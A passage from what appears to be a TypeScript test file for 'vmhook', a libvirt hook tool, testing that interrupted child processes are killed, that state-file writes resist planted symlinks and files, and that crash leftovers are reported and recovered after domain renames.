await new RootedHost("/").execAsync("/bin/sh", ["-c", ${JSON.stringify(inDir(program))}], { timeoutMs: 5000 });`,
    );
    const vmhook = Bun.spawn([process.execPath, script], { stdin: new Uint8Array(), stdout: "ignore", stderr: "pipe", env: process.env as Record<string, string> });
    await interrupt(vmhook, dir);
    assert.is(await vmhook.exited, 130, "vmhook ended as interrupted");
    await new Promise((resolve) => setTimeout(resolve, waitMs));
    return fs.existsSync(path.join(dir, "changed"));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

test("execAsync: a Ctrl-C that comes the moment the program has been spawned, before vmhook has noted its process group, still ends the program (the handler is in place before the spawn)", async () => {
  // The SIGINT arrives as Bun.spawn returns: without a handler already in place, the default action
  // ends vmhook there, and the program, in a session of its own, goes on.
  const interruptedAtSpawn = `const spawn = Bun.spawn;
(Bun as { spawn: unknown }).spawn = (...args: Parameters<typeof spawn>) => {
  const child = spawn(...args);
  process.kill(process.pid, "SIGINT");
  return child;
};`;
  const outlived = await programOutlivedInterrupt(interruptedAtSpawn, "sleep 1; touch DIR/changed", async () => {}, 1500);
  assert.not.ok(outlived, "the program was killed with it");
});

test("execAsync: vmhook run by hand and stopped with Ctrl-C ends the program it runs (in a session of its own, out of the terminal's reach), which would otherwise change the host after vmhook is gone", async () => {
  const ctrlC = async (vmhook: BunSubprocess, dir: string) => {
    while (!fs.existsSync(path.join(dir, "started"))) await new Promise((resolve) => setTimeout(resolve, 20));
    // What the terminal does on Ctrl-C: SIGINT to its foreground process group, which the program is not in.
    vmhook.kill("SIGINT");
  };
  // Past the program's own sleep: a loaded machine may take long to deliver the SIGINT.
  const outlived = await programOutlivedInterrupt("", "touch DIR/started; sleep 2; touch DIR/changed", ctrlC, 2300);
  assert.not.ok(outlived, "the program was killed with it");
});

test("a state file is written through a fresh temp file: a leftover temp, or a symlink planted there, is replaced, never followed", () => {
  const sim = new SimHost().file("/secret", "secret");
  try {
    ensureStateDir(sim);
    const file = `${paths.stateDir}/x.json`;
    writeStateFile(sim, file, "one\n");
    assert.is(sim.read(file), "one\n");
    sim.file(`${file}.tmp`, "half of a killed writer's file");
    writeStateFile(sim, file, "two\n");
    assert.is(sim.read(file), "two\n");
    sim.link(`${file}.tmp`, sim.resolve("/secret"));
    writeStateFile(sim, file, "three\n");
    assert.is(sim.read(file), "three\n");
    assert.is(sim.read("/secret"), "secret\n");
    assert.equal(sim.stat(file)?.isFile, true);
    assert.equal(sim.list(paths.stateDir), ["x.json"]);
  } finally {
    sim.cleanup();
  }
});

test("RootedHost finds a program in the first directory of the search path where it is an executable file", () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-path-"));
  const put = (file: string, mode: number, text = "#!/bin/sh\necho $0\n") => {
    fs.mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    fs.writeFileSync(path.join(root, file), text, { mode });
  };
  fs.mkdirSync(path.join(root, "usr/local/sbin/tool"), { recursive: true }); // a directory of that name
  put("usr/local/bin/tool", 0o644); // not executable
  put("usr/sbin/tool", 0o755);
  put("usr/bin/tool", 0o755);
  put("sbin", 0o644, ""); // a file where a directory of the path should be
  try {
    const host = new RootedHost(root);
    assert.is(host.exec("tool", [], { timeoutMs: 5000 }).stdout, `${root}/usr/sbin/tool\n`);
    fs.rmSync(path.join(root, "usr/sbin/tool"));
    assert.is(host.exec("tool", [], { timeoutMs: 5000 }).stdout, `${root}/usr/bin/tool\n`);
    fs.rmSync(path.join(root, "usr/bin/tool"));
    assert.match(host.exec("tool", [], { timeoutMs: 5000 }).error!, "tool: not found");
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test("sudo vmhook validate/plan/doctor NAME in a directory others write reads libvirt's domain NAME, never a file of that name planted there", async () => {
  const cwd = process.cwd();
  const here = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-shared-cwd-"));
  const libvirt = fakeLibvirt("vm", XML.replace("<metadata>", "<description>libvirt's</description><metadata>"));
  const sim = new SimHost();
  try {
    // Another user's file where root runs the command: a domain without vmhook's metadata, said to be fine.
    fs.writeFileSync(path.join(here, "vm"), XML.replace(/<metadata>.*<\/metadata>/s, "").replace("<name>vm</name>", "<name>planted</name>"));
    process.chdir(here);
    for (const command of ["validate", "plan", "doctor"]) {
      const outcome = await cli([command, "--json", "vm", "--root", sim.root]);
      assert.not.match(outcome.stdout + outcome.stderr, "planted", command);
      assert.ok(libvirt.calls().some((call) => call.includes("dumpxml") && call.at(-1) === "vm"), command);
    }
    // A file is still read when the argument says so; a name libvirt does not know says how.
    assert.match((await cli(["validate", "./vm", "--root", sim.root])).stdout, "./vm: ok; planted has no vmhook metadata");
    fs.renameSync("vm", "other");
    assert.match((await cli(["validate", "other", "--root", sim.root])).stderr, "\n  to read the file other here instead, write ./other\n");
  } finally {
    process.chdir(cwd);
    libvirt.cleanup();
    sim.cleanup();
    fs.rmSync(here, { recursive: true, force: true });
  }
});

/** A domain "vm" that took hugepages and whose QEMU is gone without a release (a crash): `check` sees the host and its pool. */
async function leftHolding(check: (sim: SimHost, pool: () => number) => Promise<void>): Promise<void> {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    assert.is((await runHookEvent(sim, "prepare", "begin", XML)).code, 0);
    assert.is((await runHookEvent(sim, "started", "begin", XML)).code, 0);
    await check(sim, () => Number(sim.read("/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages")));
  } finally {
    sim.cleanup();
  }
}

test("a domain renamed (virsh domrename) after a crash left its journal: status and doctor name it as libvirt's definition does now, and recover by that name gives back what it holds", async () => {
  await leftHolding(async (sim, pool) => {
    // libvirt renames the definition's file with the domain; another domain's definition lies beside it.
    sim.file("/etc/libvirt/qemu/other.xml", XML.replace("<name>vm</name>", "<name>other</name>").replace(UUID, "e1e1e1e1-0000-4000-8000-0000000000e2"));
    sim.file("/etc/libvirt/qemu/win11.xml", `<!-- WARNING: THIS IS AN AUTO-GENERATED FILE. -->\n${XML.replace("<name>vm</name>", "<name>win11</name>")}`);
    const status = await cli(["status", "--root", sim.root]);
    assert.match(status.stdout, `win11 (${UUID}, vm when it started): not running, yet vmhook still holds for it (vmhook recover win11 gives it back)`, status.stdout);
    assert.equal(JSON.parse((await cli(["status", "--json", "--root", sim.root])).stdout).domains.map((d: { domain: { name: string }; nameWhenStarted?: string }) => [d.domain.name, d.nameWhenStarted]), [["win11", "vm"]]);
    const leftovers = (await runDoctor(sim)).host.filter((finding) => finding.check === "leftovers");
    assert.equal(leftovers.map((finding) => [finding.reason.split(" ")[0], finding.fix]), [["win11", "run vmhook recover win11"]]);
    assert.is((await cli(["recover", "other", "--root", sim.root])).stdout, "nothing to recover for other (no journal in /run/vmhook)\n");
    assert.ok(pool() > 0);
    const recovered = await cli(["recover", "win11", "--root", sim.root]);
    assert.is(recovered.code, 0, recovered.stdout + recovered.stderr);
    assert.match(recovered.stdout, /^win11: 1 change\(s\) undone\n/);
    assert.is(pool(), 0);
  });
});

// virsh domrename writes NEW.xml, then removes OLD.xml (qemuDomainRenameCallback): cut short by a crash, both carry the
// UUID. libvirtd's next start loads the definitions in readdir order and refuses the second one with the same UUID
// ("domain 'X' is already defined with uuid", virDomainObjListAddLocked): which name it keeps, no file says.
test("two definitions carry the domain's UUID (virsh domrename cut short): status, doctor and recover say both names and give the UUID to recover by, rather than guess", async () => {
  await leftHolding(async (sim, pool) => {
    sim.file("/etc/libvirt/qemu/vm.xml", XML);
    sim.file("/etc/libvirt/qemu/win11.xml", XML.replace("<name>vm</name>", "<name>win11</name>"));
    const status = await cli(["status", "--root", sim.root]);
    assert.match(
      status.stdout,
      `vm or win11 (${UUID}; two definitions carry its UUID, /etc/libvirt/qemu/vm.xml and /etc/libvirt/qemu/win11.xml: libvirt uses the one it read first, virsh domname ${UUID} says which): not running, yet vmhook still holds for it (vmhook recover ${UUID} gives it back)`,
      status.stdout,
    );
    const json = JSON.parse((await cli(["status", "--json", "--root", sim.root])).stdout);
    assert.equal(json.domains.map((d: { domain: { name: string }; definedAs?: unknown }) => [d.domain.name, d.definedAs]), [["vm", [{ name: "vm", file: "/etc/libvirt/qemu/vm.xml" }, { name: "win11", file: "/etc/libvirt/qemu/win11.xml" }]]]);
    const leftovers = (await runDoctor(sim)).host.filter((finding) => finding.check === "leftovers");
    assert.equal(leftovers.map((finding) => [finding.reason.split(" is not running")[0], finding.fix]), [["vm or win11", `run vmhook recover ${UUID}`]]);
    assert.match(leftovers[0]!.reason, `; two definitions carry its UUID, /etc/libvirt/qemu/vm.xml and /etc/libvirt/qemu/win11.xml: libvirt uses the one it read first, virsh domname ${UUID} says which`);
    assert.ok(pool() > 0);
    const recovered = await cli(["recover", "win11", "--root", sim.root]);
    assert.is(recovered.code, 0, recovered.stdout + recovered.stderr);
    assert.match(recovered.stdout, /^vm or win11: 1 change\(s\) undone\n/);
    assert.is(pool(), 0);
  });
});

test.run();
